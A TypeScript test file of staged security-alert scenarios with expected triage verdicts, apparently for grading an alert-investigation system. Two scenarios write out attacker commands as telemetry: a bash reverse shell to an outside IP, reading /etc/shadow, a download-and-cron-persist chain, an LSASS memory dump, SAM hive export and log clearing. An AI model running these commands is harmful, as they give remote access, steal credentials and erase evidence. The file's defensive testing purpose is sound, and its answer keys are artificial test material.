// Which machine an alert means where it names a sensor, and machines whose work is to scan.

import type { Setting } from '../../../world/setting.ts'
import { alert, by, clean, connected, harmless, hostile, ran, situation, ticket, undecided } from '../../shorthand.ts'

function scanSeen(setting: Setting, at: number, source: string, targets: readonly string[]) {
  return alert(setting, at + 120_000, 'armis', 'Port scan detected', {
    alertId: setting.seeded.number(`armis ${at}`, 10_000, 99_999),
    type: 'Anomaly Detection',
    title: 'Port scan detected',
    severity: 'High',
    time: setting.iso(at),
    status: 'UNHANDLED',
    activity: { sourceIp: source, destinations: targets.map((ip) => ({ ip, ports: [22, 135, 443, 445, 3389] })) },
    description: `${source} opened connections to many ports of ${targets.length} devices within two minutes.`,
    sensor: { name: 'armis-col-got', type: 'Collector' },
  })
}

const servers = (setting: Setting) =>
  ['srv-files-01', 'srv-erp-01', 'srv-sql-01'].map((name) => setting.machine(name).ip)

export const scanOfTheOwnScanner = situation(
  'scan-of-the-own-scanner',
  'resolution',
  'The address that scans is that of the own scanner',
  (setting) => {
    const scanner = setting.machine('scan-vm-01')
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [scanSeen(setting, at, scanner.ip, servers(setting))],
      facts: {
        telemetry: [0, 7, 14, 21].map((days) =>
          ran(scanner, at - days * 86_400_000, 'openvas', 'openvas --scan-start 5d0c', {
            AccountName: 'gvm',
            InitiatingProcessFileName: 'ospd-openvas',
          }),
        ),
      },
      expected: harmless,
      because: 'The address is that of the machine that the endpoint platform marks as the vulnerability scanner.',
    }
  },
)

export const scanOfAnEngineersLaptop = situation(
  'scan-of-an-engineers-laptop',
  'resolution',
  'The address that scans is that of a laptop',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    const laptop = setting.laptopOf('jonas.brandt')
    return {
      alerts: [scanSeen(setting, at, setting.addressAt(laptop, at), servers(setting))],
      expected: undecided,
      because: 'A laptop is no scanner, and nothing tells why it scanned.',
    }
  },
)

export const intruderOnTheScanner = situation(
  'intruder-on-the-scanner',
  'resolution',
  'The scanner does what scanners do not do',
  (setting) => {
    const scanner = setting.machine('scan-vm-01')
    const at = setting.ago({ hours: 2 })
    const did = (minutes: number, name: string, command: string) =>
      ran(scanner, at + minutes * 60_000, name, command, { AccountName: 'www-data', InitiatingProcessFileName: 'bash' })
    return {
      alerts: [scanSeen(setting, at, scanner.ip, servers(setting))],
      facts: {
        telemetry: [
          did(1, 'bash', 'bash -i >& /dev/tcp/91.92.241.10/443 0>&1'),
          did(3, 'cat', 'cat /etc/shadow'),
          did(5, 'curl', 'curl -s http://91.92.241.10/k -o /dev/shm/.k'),
          did(6, 'chmod', 'chmod +x /dev/shm/.k'),
          did(8, 'bash', 'bash -c "(crontab -l; echo \'* * * * * /dev/shm/.k\') | crontab -"'),
        ],
      },
      expected: { ...hostile(), forbidden: [] },
      because: 'A shell to the outside, passwords read and a program in memory: somebody else works on the scanner.',
    }
  },
)

export const sensorNamedAndLaptopMeant = situation(
  'sensor-named-and-laptop-meant',
  'resolution',
  'The alert names a sensor; a laptop behind it called the server',
  (setting) => {
    const viktor = setting.person('viktor.sand')
    const laptop = setting.laptopOf('viktor.sand')
    const at = setting.ago({ hours: 2 })
    const [ip, domain] = ['194.87.31.15', 'sync.palletwise-edi.com']
    const did = (minutes: number, parent: string, name: string, command: string) =>
      ran(laptop, at + minutes * 60_000, name, command, { ...by(viktor), InitiatingProcessFileName: parent })
    return {
      alerts: [
        alert(setting, at + 60_000, 'zeek_intel', 'Intel::Notice', {
          ts: setting.iso(at),
          uid: 'CkQ2vT1pWm8x',
          'id.orig_h': '10.99.0.41',
          'id.orig_p': 50_992,
          'id.resp_h': ip,
          'id.resp_p': 443,
          note: 'Intel::Notice',
          msg: `Intel hit on ${domain} at SSL::IN_SERVER_NAME`,
          sub: domain,
          peer_descr: 'worker-2',
          system_name: 'zeek-got-tap1',
          actions: ['Notice::ACTION_LOG'],
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('domain', domain, 84, [['Recent C&C DNS Name', 3, 'Named in a sample this week.']]),
        ],
        telemetry: [
          connected(laptop, at, ip, { RemoteUrl: domain, InitiatingProcessFileName: 'regsvr32.exe' }),
          did(
            -4,
            'regsvr32.exe',
            'rundll32.exe',
            'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full',
          ),
          did(3, 'cmd.exe', 'reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\s.hiv'),
          did(5, 'cmd.exe', 'wevtutil.exe', 'wevtutil.exe cl Security'),
          did(6, 'cmd.exe', 'nltest.exe', 'nltest.exe /domain_trusts'),
        ],
      },
      expected: hostile(laptop.host),
      because: 'The endpoint platform saw the laptop call the server, and passwords were read from memory there.',
    }
  },
)

export const roleForThePartner = situation(
  'role-for-the-partner',
  'vocabulary',
  'A role that a partner may take on, named by what was written about it',
  (setting) => {
    const wei = setting.person('wei.chen')
    const at = setting.ago({ hours: 5 })
    return {
      alerts: [
        alert(setting, at + 60_000, 'orca_cloud', 'Role can be assumed by an external account', {
          alert_id: 'orca-771204',
          type: 'aws_iam_role_external_account',
          state: { severity: 'hazardous', status: 'open', created_at: setting.iso(at) },
          asset: { name: 'spectra-upload', type: 'AwsIamRole', arn: 'arn:aws:iam::337015528846:role/spectra-upload' },
          finding: {
            principal: 'arn:aws:iam::604118223970:root',
            changed_by: 'arn:aws:sts::337015528846:assumed-role/deployer/session-8812',
            source_ip: '193.46.212.10',
            event: 'UpdateAssumeRolePolicy',
          },
          cloud_account: { name: 'havskog-prod', id: '337015528846' },
        }),
      ],
      facts: {
        intelligence: [clean(setting, 'ip', '193.46.212.10')],
        investigations: [
          ticket(
            setting,
            'Measurements straight to the university',
            setting.ago({ hours: 8 }),
            'BENIGN',
            [{ person: wei }],
            'The university reads the spectra itself from now on: their account 604118223970 may take on spectra-upload. Contract seen, applied today by the deployer from the office.',
            { source: 'USER', priority: 'LOW', tags: ['operations'] },
          ),
        ],
      },
      expected: harmless,
      because: 'What people wrote on the day names the role and the outside account.',
    }
  },
)
